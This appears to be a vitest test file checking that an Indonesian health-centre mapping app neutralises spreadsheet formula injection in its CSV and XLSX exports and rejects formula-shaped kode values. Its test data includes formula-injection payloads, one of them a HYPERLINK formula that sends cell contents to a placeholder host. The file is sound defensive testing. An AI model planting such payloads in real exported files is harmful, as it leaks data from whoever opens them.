// No file the app writes carries a live formula (issue 14, item 5): text that starts with = + - @ (or a tab or carriage
// return) leaves as text — behind an apostrophe in CSV, as a text cell in XLSX — in the wilayah kerja CSV and both
// templates; a new puskesmas must have a kode of the documented form, so a formula cannot become a kode at all.
import { describe, expect, it } from 'vitest';
import { readZipDirectory, inflateEntry } from '@peta/server-core';
import { seedPuskesmas } from '@peta/server-core/testing';
import { clearMeetingsAndRollout, useApp } from './helper.ts';
import { loadTinyValues } from './fixtures/tiny-values.ts';

const HOSTILE = ['=HYPERLINK("http://contoh.test/?"&A3,"klik")', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1', '\r=1'];

const ctx = useApp(async (database) => {
  await loadTinyValues(database);
  const { pool } = database;
  await clearMeetingsAndRollout(database);
  // Names as a hostile user (or data from before the kode rule) could have left them.
  await seedPuskesmas(database, [
    { kode: '1010001', nama: HOSTILE[0]!, desa: ['99.01.01.2001'] },
    { kode: '@SUM(1)', nama: HOSTILE[3]!, desa: ['99.01.01.2002'] },
  ]);
  for (const [kode, nama] of [
    ['99.01.01', HOSTILE[1]],
    ['99.01.01.2001', HOSTILE[2]],
    ['99.01.01.2002', HOSTILE[4]],
  ]) {
    await pool.query('update wilayah set nama = $2 where kode = $1', [kode, nama]);
  }
});

const csvOf = async (url: string) => {
  const res = await ctx.app.inject(url);
  expect(res.statusCode).toBe(200);
  return res.rawPayload.toString('utf8').replace(/^\ufeff/, '');
};

describe('formula starts are neutralised in every file the app writes', () => {
  it('the wilayah kerja CSV', async () => {
    expect(await csvOf('/api/wilayah-kerja.csv?kabupaten=99.01')).toBe(
      'kode_puskesmas,nama,kode_desa\r\n' +
        '1010001,"\'=HYPERLINK(""http://contoh.test/?""&A3,""klik"")",99.01.01.2001\r\n' +
        "'@SUM(1),'@SUM(A1:A9),99.01.01.2002\r\n",
    );
  });

  it('the CSV template (wilayah and desa names)', async () => {
    const lines = (await csvOf('/api/templat?wilayah=99.01.01&periode=2026-09&indikator=KIA_K1&format=csv')).split(
      '\r\n',
    );
    expect(lines[1]).toBe("wilayah,99.01.01,'+1+1");
    expect(lines.slice(6, 8)).toEqual(["99.01.01.2001,'-2+3", "99.01.01.2002,'\t=1"]);
  });

  it('the XLSX template: such text is a text cell, never a formula', async () => {
    const res = await ctx.app.inject('/api/templat?wilayah=99.01.01&periode=2026-09&indikator=KIA_K1&format=xlsx');
    expect(res.statusCode).toBe(200);
    const entries = readZipDirectory(res.rawPayload);
    const part = async (name: string) => {
      const chunks: Buffer[] = [];
      await inflateEntry(res.rawPayload, entries.get(name)!, 1 << 24, (c) => chunks.push(c));
      return Buffer.concat(chunks).toString('utf8');
    };
    const sheet = await part('xl/worksheets/sheet1.xml');
    expect(sheet).not.toMatch(/<f[ >]/);
    const strings = await part('xl/sharedStrings.xml');
    for (const text of ['+1+1', '-2+3']) expect(strings).toContain(`<t>${text}</t>`);
    // The cells holding them have the Text number format (built-in 49, "@"): Excel keeps them text when edited.
    const styles = await part('xl/styles.xml');
    const xfs = [...styles.slice(styles.indexOf('<cellXfs')).matchAll(/<xf [^>]*numFmtId="(\d+)"/g)].map((m) => m[1]);
    const styleOf = (ref: string) => Number(new RegExp(`<c r="${ref}"[^>]*? s="(\\d+)"`).exec(sheet)?.[1] ?? 0);
    expect(xfs[styleOf('C2')]).toBe('49'); // Kecamatan "+1+1"
    expect(xfs[styleOf('B7')]).toBe('49'); // Desa "-2+3"
  });
});

describe('a new puskesmas needs a kode of the documented form', () => {
  const upload = (csv: string) =>
    ctx.app.inject({
      method: 'POST',
      url: '/api/wilayah-kerja/simpan?kabupaten=99.01&mulai=2026-12-01',
      headers: { ...ctx.admin.headers, 'content-type': 'text/csv' },
      payload: csv,
    });

  it('a formula as kode is refused and nothing is written', async () => {
    const before = (await ctx.database.pool.query('select count(*)::int as n from puskesmas')).rows[0].n;
    const res = await upload(
      `kode_puskesmas,nama,kode_desa\n"${HOSTILE[0]!.replace(/"/g, '""')}",Puskesmas Jahat,99.01.02.2001\n`,
    );
    expect(res.statusCode).toBe(422);
    expect(res.json().errors).toEqual([
      {
        row: 2,
        column: 'kode_puskesmas',
        code: 'PUSKESMAS_KODE_INVALID',
        message:
          'Kode puskesmas "=HYPERLINK("http://contoh.test/?"&A3,"kl…" tidak dikenal dan tidak sah untuk puskesmas baru: ' +
          'gunakan kode Komdat 7 angka (misalnya 1010453) atau kode Kemenkes huruf P dan 10 angka (misalnya P1210090201).',
      },
    ]);
    expect((await ctx.database.pool.query('select count(*)::int as n from puskesmas')).rows[0].n).toBe(before);
  });

  it('a Kemenkes kode with a hostile name is taken, and the name leaves the export as text', async () => {
    const res = await upload('kode_puskesmas,nama,kode_desa\nP9901020001,@SUM(A1),99.01.02.2001\n');
    expect(res.statusCode).toBe(200);
    expect(res.json()).toMatchObject({
      status: 'committed',
      newPuskesmas: [{ kode: 'P9901020001', nama: '@SUM(A1)' }],
    });
    expect(await csvOf('/api/wilayah-kerja.csv?kabupaten=99.01')).toContain("P9901020001,'@SUM(A1),99.01.02.2001\r\n");
  });
});
